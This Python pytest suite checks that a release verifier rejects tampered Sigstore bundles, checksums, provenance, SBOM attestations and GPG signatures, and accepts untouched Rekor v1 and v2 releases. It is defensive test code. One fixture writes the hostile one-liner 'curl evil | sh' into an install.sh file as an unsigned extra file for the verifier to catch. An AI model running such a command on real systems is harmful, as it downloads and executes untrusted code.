"""The tamper suite: every way a release can be altered or mis-signed is rejected, naming the
artifact and the reason; the untouched release (Rekor v1 and v2) is accepted.

Each case takes a fresh copy of a really signed release, changes it the way an attacker or a
broken pipeline would, and runs the real verifier (real sigstore-python, real gpg).
"""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.fixtures.release_kit import (
    CDX,
    PROVENANCE,
    PUBKEY,
    SBOM_ATTESTATION,
    SDIST,
    SPDX,
    WHEEL,
    ReleaseKit,
    ReleaseSigner,
    cyclonedx,
    provenance,
    release_kit,
    release_policy,
    sha256,
    spdx,
    statement,
)
from upm_ci.cli import main
from upm_ci.identity import ExpectedSigner
from upm_ci.provenance import CYCLONEDX_BOM
from upm_ci.standins.sigstore_server import SigstoreStandIn
from upm_ci.verify.phase import verify_release
from upm_ci.verify.report import VerifyReport

__all__ = ["release_kit"]

BUNDLE = ".sigstore.json"


@dataclass
class Ctx:
    """What a tamper function may use: the release copy, the kit, a signer factory."""

    dist: Path
    kit: ReleaseKit
    signers: Callable[..., ReleaseSigner]
    trust_config: Path
    policy: ExpectedSigner = field(default_factory=release_policy)

    def bundle(self, name: str) -> dict[str, Any]:
        data: dict[str, Any] = json.loads((self.dist / (name + BUNDLE)).read_text())
        return data

    def write_bundle(self, name: str, data: dict[str, Any]) -> None:
        (self.dist / (name + BUNDLE)).write_text(json.dumps(data))

    def line_bundle(self, name: str) -> dict[str, Any]:
        data: dict[str, Any] = json.loads((self.dist / name).read_text())
        return data

    def dists(self) -> dict[str, str]:
        return {n: sha256((self.dist / n).read_bytes()) for n in (SDIST, WHEEL)}


def flip_b64(value: str, index: int = 10) -> str:
    raw = bytearray(base64.b64decode(value))
    raw[index % len(raw)] ^= 0x01
    return base64.b64encode(bytes(raw)).decode()


def resign(ctx: Ctx, name: str, **claims: Any) -> None:
    ctx.signers(**claims).sign_file(ctx.dist / name)


# ------------------------------------------------------------------ tampering functions


def byte_changed(ctx: Ctx) -> None:
    data = bytearray((ctx.dist / WHEEL).read_bytes())
    data[100] ^= 0x20
    (ctx.dist / WHEEL).write_bytes(bytes(data))


def truncated(ctx: Ctx) -> None:
    (ctx.dist / SDIST).write_bytes((ctx.dist / SDIST).read_bytes()[:-10])


def bundle_swapped(ctx: Ctx) -> None:
    shutil.copy(ctx.dist / (WHEEL + BUNDLE), ctx.dist / (SDIST + BUNDLE))


def bundle_missing(ctx: Ctx) -> None:
    (ctx.dist / (WHEEL + BUNDLE)).unlink()


def other_ca(ctx: Ctx) -> None:
    with SigstoreStandIn() as other:
        signer = ReleaseSigner(other)
        try:
            signer.sign_file(ctx.dist / WHEEL)
        finally:
            signer.close()


def inclusion_proof_stripped(ctx: Ctx) -> None:
    data = ctx.bundle(WHEEL)
    del data["verificationMaterial"]["tlogEntries"][0]["inclusionProof"]
    ctx.write_bundle(WHEEL, data)


def checkpoint_altered(ctx: Ctx) -> None:
    data = ctx.bundle(WHEEL)
    proof = data["verificationMaterial"]["tlogEntries"][0]["inclusionProof"]
    lines = proof["checkpoint"]["envelope"].split("\n")
    lines[1] = str(int(lines[1]) + 1)  # the tree size
    proof["checkpoint"]["envelope"] = "\n".join(lines)
    ctx.write_bundle(WHEEL, data)


def root_hash_altered(ctx: Ctx) -> None:
    data = ctx.bundle(WHEEL)
    proof = data["verificationMaterial"]["tlogEntries"][0]["inclusionProof"]
    proof["rootHash"] = flip_b64(proof["rootHash"])
    ctx.write_bundle(WHEEL, data)


def set_altered(ctx: Ctx) -> None:
    data = ctx.bundle(WHEEL)
    entry = data["verificationMaterial"]["tlogEntries"][0]
    entry["integratedTime"] = str(int(entry["integratedTime"]) - 30)
    ctx.write_bundle(WHEEL, data)


def timestamps_stripped(ctx: Ctx) -> None:
    data = ctx.bundle(WHEEL)
    data["verificationMaterial"].pop("timestampVerificationData", None)
    ctx.write_bundle(WHEEL, data)


def sct_log_untrusted(ctx: Ctx) -> None:
    """The certificate's SCT comes from a log the trust root does not know."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    other_key = ec.generate_private_key(ec.SECP256R1()).public_key()
    der = other_key.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    config = json.loads(ctx.trust_config.read_text())
    for log in config["trustedRoot"]["ctlogs"]:
        log["publicKey"]["rawBytes"] = base64.b64encode(der).decode()
    path = ctx.dist.parent / "trust-without-ct.json"
    path.write_text(json.dumps(config))
    ctx.trust_config = path


def signature_flipped(ctx: Ctx) -> None:
    data = ctx.bundle(WHEEL)
    sig = data["messageSignature"]
    sig["signature"] = flip_b64(sig["signature"], 20)
    ctx.write_bundle(WHEEL, data)


def bundle_malformed(ctx: Ctx) -> None:
    (ctx.dist / (WHEEL + BUNDLE)).write_text('{"mediaType": "application/vnd.dev.sigstore')


def sums_digest_changed(ctx: Ctx) -> None:
    path = ctx.dist / "SHA256SUMS"
    lines = path.read_text().splitlines()
    lines = [("0" * 64 + "  " + WHEEL) if ln.endswith(WHEEL) else ln for ln in lines]
    path.write_text("\n".join(lines) + "\n")


def sums_line_removed(ctx: Ctx) -> None:
    path = ctx.dist / "SHA256SUMS"
    path.write_text("".join(ln + "\n" for ln in path.read_text().splitlines() if SDIST not in ln))


def sums_extra_file(ctx: Ctx) -> None:
    with (ctx.dist / "SHA256SUMS").open("a") as f:
        f.write("a" * 64 + "  upm_sample-1.2.0-cp311-none-any.whl\n")


def sums_bundle_swapped(ctx: Ctx) -> None:
    shutil.copy(ctx.dist / (SDIST + BUNDLE), ctx.dist / ("SHA256SUMS" + BUNDLE))


def _provenance(ctx: Ctx, subjects: dict[str, str], **claims: Any) -> None:
    ctx.signers(**claims).sign_statement(provenance(subjects), ctx.dist / PROVENANCE)


def provenance_digest_changed(ctx: Ctx) -> None:
    _provenance(ctx, {**ctx.dists(), WHEEL: "b" * 64})


def provenance_subject_removed(ctx: Ctx) -> None:
    _provenance(ctx, {WHEEL: ctx.dists()[WHEEL]})


def provenance_extra_subject(ctx: Ctx) -> None:
    _provenance(ctx, {**ctx.dists(), "upm_sample-1.2.0-cp311-linux.whl": "c" * 64})


def provenance_other_identity(ctx: Ctx) -> None:
    _provenance(ctx, ctx.dists(), repository="mallory/upm-sample")


def provenance_payload_altered(ctx: Ctx) -> None:
    data = ctx.line_bundle(PROVENANCE)
    payload = json.loads(base64.b64decode(data["dsseEnvelope"]["payload"]))
    payload["subject"] = payload["subject"][:1]
    data["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    (ctx.dist / PROVENANCE).write_text(json.dumps(data) + "\n")


def sbom_attestation_two_subjects(ctx: Ctx) -> None:
    wheel_sha = ctx.dists()[WHEEL]
    ctx.signers().sign_statement(
        statement(CYCLONEDX_BOM, ctx.dists(), cyclonedx(wheel_sha)), ctx.dist / SBOM_ATTESTATION
    )


def provenance_unknown_predicate(ctx: Ctx) -> None:
    stmt = provenance(ctx.dists())
    stmt["predicateType"] = "https://example.com/made-up/v1"
    ctx.signers().sign_statement(stmt, ctx.dist / PROVENANCE)


def provenance_missing(ctx: Ctx) -> None:
    (ctx.dist / PROVENANCE).unlink()


def sbom_attestation_other_subject(ctx: Ctx) -> None:
    wheel_sha = ctx.dists()[WHEEL]
    ctx.signers().sign_statement(
        statement(CYCLONEDX_BOM, {WHEEL: "d" * 64}, cyclonedx(wheel_sha)),
        ctx.dist / SBOM_ATTESTATION,
    )


def sbom_attestation_missing(ctx: Ctx) -> None:
    (ctx.dist / SBOM_ATTESTATION).unlink()


def cdx_hash_wrong(ctx: Ctx) -> None:
    (ctx.dist / CDX).write_text(json.dumps(cyclonedx("e" * 64)))
    resign(ctx, CDX)
    (ctx.dist / (CDX + ".asc")).unlink()


def spdx_hash_wrong(ctx: Ctx) -> None:
    (ctx.dist / SPDX).write_text(json.dumps(spdx("f" * 64)))
    resign(ctx, SPDX)
    (ctx.dist / (SPDX + ".asc")).unlink()


def gpg_of_other_file(ctx: Ctx) -> None:
    shutil.copy(ctx.dist / (SDIST + ".asc"), ctx.dist / (WHEEL + ".asc"))


def gpg_other_key(ctx: Ctx) -> None:
    ctx.kit.other_gpg.sign(ctx.dist / WHEEL)


def gpg_corrupted(ctx: Ctx) -> None:
    path = ctx.dist / (WHEEL + ".asc")
    lines = path.read_text().splitlines()
    body = next(i for i, ln in enumerate(lines) if ln and i > 1 and not ln.startswith("-"))
    lines[body] = "A" * len(lines[body])
    path.write_text("\n".join(lines) + "\n")


def gpg_key_swapped(ctx: Ctx) -> None:
    shutil.copy(ctx.kit.other_gpg.public_key, ctx.dist / PUBKEY)


def unsigned_extra_file(ctx: Ctx) -> None:
    (ctx.dist / "install.sh").write_text("curl evil | sh\n")


def orphan_bundle(ctx: Ctx) -> None:
    shutil.copy(ctx.dist / (WHEEL + BUNDLE), ctx.dist / ("upm_sample-1.2.0-cp39.whl" + BUNDLE))


def wheel_removed(ctx: Ctx) -> None:
    for name in (WHEEL, WHEEL + BUNDLE, WHEEL + ".asc"):
        (ctx.dist / name).unlink()


def policy(**overrides: str) -> Callable[[Ctx], None]:
    def change(ctx: Ctx) -> None:
        ctx.policy = release_policy(**overrides)

    return change


def signed_by(**claims: Any) -> Callable[[Ctx], None]:
    def change(ctx: Ctx) -> None:
        resign(ctx, WHEEL, **claims)

    return change


def both(*changes: Callable[[Ctx], None]) -> Callable[[Ctx], None]:
    def change(ctx: Ctx) -> None:
        for one in changes:
            one(ctx)

    return change


def expect_issuer(ctx: Ctx) -> None:
    ctx.policy = ExpectedSigner(
        identity=ctx.policy.identity, issuer="https://accounts.google.com", ref=ctx.policy.ref
    )


# ------------------------------------------------------------------ the cases

SIG = "sigstore"
CASES: list[tuple[str, Callable[[Ctx], None], list[tuple[str, str, str]], int]] = [
    ("artifact-byte-changed", byte_changed,
     [(WHEEL, SIG, "digest mismatch"), (WHEEL, "checksum", "")], 1),
    ("artifact-truncated", truncated,
     [(SDIST, SIG, "digest mismatch"), (SDIST, "checksum", "")], 1),
    ("bundle-swapped", bundle_swapped, [(SDIST, SIG, "digest mismatch")], 1),
    ("bundle-missing", bundle_missing, [(WHEEL, SIG, "no Sigstore bundle")], 1),
    ("wrong-identity-workflow", signed_by(workflow_path=".github/workflows/ci.yml"),
     [(WHEEL, SIG, "identity: expected https://github.com/unexpected/upm-sample/.github/"
       "workflows/release.yml@refs/tags/v1.2.0, found https://github.com/unexpected/upm-sample/"
       ".github/workflows/ci.yml@refs/tags/v1.2.0")], 1),
    ("wrong-repository", signed_by(repository="mallory/upm-sample"),
     [(WHEEL, SIG, "repository: expected unexpected/upm-sample, found mallory/upm-sample")], 1),
    ("wrong-ref-other-tag", signed_by(ref="refs/tags/v1.1.0"),
     [(WHEEL, SIG, "ref: expected refs/tags/v1.2.0, found refs/tags/v1.1.0")], 1),
    ("wrong-ref-branch", signed_by(ref="refs/heads/main"),
     [(WHEEL, SIG, "ref: expected refs/tags/v1.2.0, found refs/heads/main")], 1),
    ("wrong-trigger", both(signed_by(event_name="pull_request_target"), policy(trigger="push")),
     [(WHEEL, SIG, "trigger: expected push, found pull_request_target")], 1),
    ("policy-expects-other-repository", policy(repository="mallory/upm-sample"),
     [(WHEEL, SIG, "repository: expected mallory/upm-sample, found unexpected/upm-sample"),
      (SDIST, SIG, "repository: expected mallory/upm-sample")], 1),
    ("policy-expects-other-issuer", expect_issuer,
     [(WHEEL, SIG, "issuer: expected https://accounts.google.com, "
       "found https://token.actions.githubusercontent.com")], 1),
    ("certificate-from-other-ca", other_ca, [(WHEEL, SIG, "chain")], 1),
    ("inclusion-proof-stripped", inclusion_proof_stripped,
     [(WHEEL, SIG, "inclusion proof missing")], 1),
    ("checkpoint-altered", checkpoint_altered, [(WHEEL, SIG, "log entry")], 1),
    ("root-hash-altered", root_hash_altered, [(WHEEL, SIG, "log entry")], 1),
    ("set-altered", set_altered, [(WHEEL, SIG, "")], 1),
    ("sct-log-not-trusted", sct_log_untrusted, [(WHEEL, SIG, "SCT")], 1),
    ("signature-flipped", signature_flipped, [(WHEEL, SIG, "invalid")], 1),
    ("bundle-json-malformed", bundle_malformed, [(WHEEL, SIG, "not a valid Sigstore bundle")], 1),
    ("sums-digest-changed", sums_digest_changed,
     [("SHA256SUMS", SIG, "digest mismatch"), (WHEEL, "checksum", "!= SHA256SUMS")], 1),
    ("sums-line-removed", sums_line_removed,
     [("SHA256SUMS", SIG, "digest mismatch"), (SDIST, "checksum", "not listed")], 1),
    ("sums-extra-file", sums_extra_file,
     [("SHA256SUMS", SIG, ""), ("upm_sample-1.2.0-cp311-none-any.whl", "checksum", "missing")], 1),
    ("sums-bundle-swapped", sums_bundle_swapped, [("SHA256SUMS", SIG, "digest mismatch")], 1),
    ("provenance-digest-changed", provenance_digest_changed,
     [(PROVENANCE, "subjects", "digest"), (WHEEL, "provenance", "not a verified subject")], 1),
    ("provenance-subject-removed", provenance_subject_removed,
     [(PROVENANCE, "subjects", f"{SDIST} is missing"), (SDIST, "provenance", "")], 1),
    ("provenance-extra-subject", provenance_extra_subject,
     [(PROVENANCE, "subjects", "not in the release")], 1),
    ("provenance-other-identity", provenance_other_identity,
     [(PROVENANCE, SIG, "signer differs: repository: expected unexpected/upm-sample")], 1),
    ("provenance-payload-altered", provenance_payload_altered, [(PROVENANCE, SIG, "")], 1),
    ("sbom-attestation-two-subjects", sbom_attestation_two_subjects,
     [(SBOM_ATTESTATION, "subjects", "2 subjects")], 1),
    ("provenance-unknown-predicate", provenance_unknown_predicate,
     [(PROVENANCE, "statement", "predicateType")], 1),
    ("provenance-missing", provenance_missing, [(SDIST, "provenance", "not a verified")], 1),
    ("sbom-attestation-subject-not-wheel", sbom_attestation_other_subject,
     [(SBOM_ATTESTATION, "subjects", "digest"), (WHEEL, "sbom-attestation", "")], 1),
    ("sbom-attestation-missing", sbom_attestation_missing,
     [(WHEEL, "sbom-attestation", "no verified SBOM attestation")], 1),
    ("cdx-metadata-hash-not-wheel", cdx_hash_wrong, [(CDX, "sbom-binding", "neither a")], 1),
    ("spdx-package-hash-not-wheel", spdx_hash_wrong, [(SPDX, "sbom-binding", "neither a")], 1),
    ("gpg-signature-of-other-file", gpg_of_other_file,
     [(WHEEL + ".asc", "gpg", "bad signature"), (WHEEL, "gpg", "bad signature")], 1),
    ("gpg-signature-other-key", gpg_other_key, [(WHEEL + ".asc", "gpg", "another key")], 1),
    ("gpg-asc-corrupted", gpg_corrupted, [(WHEEL + ".asc", "gpg", "")], 1),
    ("gpg-public-key-swapped", gpg_key_swapped, [(SDIST + ".asc", "gpg", "another key")], 1),
    ("unsigned-extra-file", unsigned_extra_file, [("install.sh", SIG, "no Sigstore bundle")], 1),
    ("bundle-without-file", orphan_bundle,
     [("upm_sample-1.2.0-cp39.whl" + BUNDLE, "subject", "not in the release")], 1),
    ("wheel-removed", wheel_removed,
     [(WHEEL, "checksum", "missing"), (PROVENANCE, "subjects", "not in the release")], 1),
    ("v2-signature-flipped", signature_flipped, [(WHEEL, SIG, "verified time")], 2),
    ("v2-checkpoint-altered", checkpoint_altered, [(WHEEL, SIG, "log entry")], 2),
    ("v2-timestamp-stripped", timestamps_stripped, [(WHEEL, SIG, "signed timestamp")], 2),
    ("v2-wrong-repository", signed_by(repository="mallory/upm-sample", rekor_version=2),
     [(WHEEL, SIG, "repository: expected unexpected/upm-sample, found mallory/upm-sample")], 2),
]  # fmt: skip


@pytest.fixture(scope="module")
def signer_factory(release_kit: ReleaseKit) -> Iterator[Callable[..., ReleaseSigner]]:
    """Signers by claims, made once per module (one certificate each)."""
    made: dict[str, ReleaseSigner] = {}

    def get(**claims: Any) -> ReleaseSigner:
        key = json.dumps(claims, sort_keys=True)
        if key not in made:
            made[key] = ReleaseSigner(release_kit.standin, **claims)
        return made[key]

    yield get
    for signer in made.values():
        signer.close()


def run(ctx: Ctx) -> VerifyReport:
    return verify_release(
        ctx.dist,
        policy=ctx.policy,
        trust_config=ctx.trust_config,
        offline=True,
        manifest=None,
        gpg_public_key=None,
        gpg_fingerprint=ctx.kit.gpg.fingerprint,  # pinned: the shipped key is not trusted alone
    )


@pytest.mark.parametrize(("tamper", "expected", "rekor"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])  # fmt: skip
def test_tampered_release_is_rejected(
    release_kit: ReleaseKit,
    signer_factory: Callable[..., ReleaseSigner],
    tmp_path: Path,
    tamper: Callable[[Ctx], None],
    expected: list[tuple[str, str, str]],
    rekor: int,
) -> None:
    ctx = Ctx(
        release_kit.copy(tmp_path / "dist", rekor_version=rekor),
        release_kit,
        signer_factory,
        release_kit.trust_config,
    )
    tamper(ctx)

    report = run(ctx)

    assert not report.passed
    failures = report.failures()
    for artifact, check, reason in expected:
        matching = [c for name, c in failures if name == artifact and c.check == check]
        assert matching, f"no failed {check} check on {artifact}; failures: {failures}"
        assert any(reason in c.reason for c in matching), (artifact, check, matching)


@pytest.mark.parametrize("rekor", [1, 2], ids=["rekor-v1", "rekor-v2"])
def test_untouched_release_is_accepted(release_kit: ReleaseKit, tmp_path: Path, rekor: int) -> None:
    dist = release_kit.copy(tmp_path / "dist", rekor_version=rekor)

    report = verify_release(
        dist,
        policy=release_policy(trigger="push"),
        trust_config=release_kit.trust_config,
        offline=True,
        manifest=None,
        gpg_public_key=release_kit.gpg.public_key,
    )

    assert report.passed, report.failures()
    assert report.failures() == []
    sigstore_checks = [c for a in report.artifacts for c in a.checks if c.check == "sigstore"]
    # 7 signed files + provenance + SBOM attestation + the release statement
    assert len(sigstore_checks) == 10
    assert all(f"Rekor v{rekor}" in c.reason for c in sigstore_checks)


def test_tampered_release_fails_through_the_cli(
    release_kit: ReleaseKit, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dist = release_kit.copy(tmp_path / "dist")
    signature_flipped(Ctx(dist, release_kit, lambda **_: release_kit.signer, dist))
    report = tmp_path / "report.json"

    code = main(
        [
            "verify",
            str(dist),
            "--project",
            str(tmp_path),
            "--repository",
            "unexpected/upm-sample",
            "--ref",
            "v1.2.0",
            "--trust-config",
            str(release_kit.trust_config),
            "--offline",
            "--report-json",
            str(report),
        ]
    )

    out, err = capsys.readouterr()
    assert code == 1
    assert f"error: {WHEEL}: sigstore: {WHEEL}{BUNDLE}: Signature is invalid" in err
    data = json.loads(report.read_text())
    assert data["passed"] is False
    (wheel,) = [a for a in data["artifacts"] if a["name"] == WHEEL]
    assert wheel["passed"] is False
    assert "FAIL" in out and "verification FAILED" in out
